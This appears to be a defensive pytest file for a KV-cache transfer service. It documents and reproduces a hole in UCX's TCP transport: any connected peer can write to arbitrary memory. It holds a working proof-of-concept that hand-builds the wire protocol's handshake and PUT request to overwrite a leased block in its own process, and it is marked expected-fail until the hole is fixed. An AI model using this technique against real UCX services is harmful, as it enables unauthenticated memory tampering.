"""What a peer without a lease token can do to a process running a real `UCXExporter`, below
pdserve's own checks: UCX's TCP transport (uct/tcp, UCX 1.21) listens on every network device it
uses and, on any connection that sent its fixed magic number and a connection request, copies a
PUT request's bytes to the address the request names (`uct_tcp_ep_handle_put_req`: a memcpy to
`put_req->addr`, no key, no bounds, and the receiving side never checks `UCX_TCP_PUT_ENABLE`).
pdserve's lease token is checked on READ frames, far above that layer, so it guards nothing here.

This test speaks that wire format over a plain socket (no UCX library on the attacker's side) to
the exporter's process on loopback and asks it to overwrite a leased KV block. It fails while the
hole exists and is marked xfail (strict) until UCX closes it; docs/security.md ("UCX's TCP
transport") says what is exposed and what keeps other pods and hosts away from these ports. An
XPASS means the documented risk is gone: update the docs and drop the mark."""

import os
import socket
import struct
import time

import pytest
import torch

os.environ.setdefault("UCX_TLS", "tcp")
ucxx = pytest.importorskip("ucxx")

from pdserve.kvtransfer import protocol as p  # noqa: E402
from pdserve.kvtransfer.ucx_backend import UCXExporter  # noqa: E402
from tests.fakes.kv_exporter_proc import listening_ports  # noqa: E402

LAYOUT = p.KVLayout("trust-boundary", 2, 4, 2, 8, "float32")

# uct/tcp's wire format (src/uct/tcp/tcp.h, UCX 1.21): all little-endian and packed.
MAGIC = struct.pack("<Q", 0xCAFEBABE12345678)
AM_HEADER = struct.Struct("<BI")  # am_id, length
CM_AM_ID, PUT_REQ_AM_ID = 32, 33  # UCT_AM_ID_MAX and the one after it
CONN_REQ, CONN_ACK = 1, 2
CONN_REQ_PKT = struct.Struct("<iBQ")  # event, flags, conn_sn; the sender's sockaddr follows
PUT_REQ = struct.Struct("<QQI")  # address, length, sequence number


def _loopback_listeners() -> list[int]:
    """Ports this process listens on at 127.0.0.1 (UCX's TCP interface on `lo` binds there;
    its connection listener binds 0.0.0.0)."""
    return [port for ip, port in listening_ports() if ip == "127.0.0.1"]


def _uct_tcp_connection(port: int) -> socket.socket | None:
    """A connection UCX's TCP interface at `port` accepted as a peer's (it answers CONN_ACK), or
    None when something else listens there."""
    s = socket.create_connection(("127.0.0.1", port), timeout=1)
    # The peer we claim to be: an address nothing listens on (UCX only compares it with its own).
    claimed = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 9) + socket.inet_aton("127.0.0.9") + bytes(8)
    req = CONN_REQ_PKT.pack(CONN_REQ, 0, int.from_bytes(os.urandom(7), "little")) + claimed
    try:
        s.sendall(MAGIC + AM_HEADER.pack(CM_AM_ID, len(req)) + req)
        reply = b""
        while len(reply) < AM_HEADER.size + 4:
            chunk = s.recv(AM_HEADER.size + 4 - len(reply))
            if not chunk:
                break
            reply += chunk
    except OSError:
        reply = b""
    if len(reply) == AM_HEADER.size + 4 and reply[0] == CM_AM_ID \
            and struct.unpack_from("<i", reply, AM_HEADER.size)[0] == CONN_ACK:
        return s
    s.close()
    return None


@pytest.mark.xfail(strict=True, reason="UCX's TCP transport writes where any connected peer says "
                                       "(docs/security.md, \"UCX's TCP transport\")")
def test_a_peer_without_the_lease_token_cannot_write_into_the_exporters_memory():
    kv = torch.zeros(LAYOUT.num_layers, 2, 8, LAYOUT.block_size, LAYOUT.num_kv_heads, LAYOUT.head_dim)
    exporter = UCXExporter("trust-boundary", kv, LAYOUT, lambda b: None, lambda b: None, shared_memory=False)
    try:
        handle = exporter.export("victim", [3], 4)  # the attacker never sees its lease token
        block = kv[0, 0, handle.block_ids[0]]
        before = block.clone()
        payload = b"written by a peer with no token!"
        assert len(payload) <= block.numel() * block.element_size()
        conns = [c for c in map(_uct_tcp_connection, _loopback_listeners()) if c is not None]
        assert conns, "no UCX TCP interface listens on loopback in this process"
        try:
            conn = conns[0]
            put = PUT_REQ.pack(block.data_ptr(), len(payload), 1)
            conn.sendall(AM_HEADER.pack(PUT_REQ_AM_ID, len(put)) + put + payload)
            deadline = time.monotonic() + 2.0  # UCX's progress thread copies it within milliseconds
            while torch.equal(block, before) and time.monotonic() < deadline:
                time.sleep(0.01)
        finally:
            for c in conns:
                c.close()
        written = bytes(block.reshape(-1).view(torch.uint8)[:len(payload)].tolist())
        assert torch.equal(block, before), f"the leased block now starts with {written!r}"
    finally:
        exporter.close()
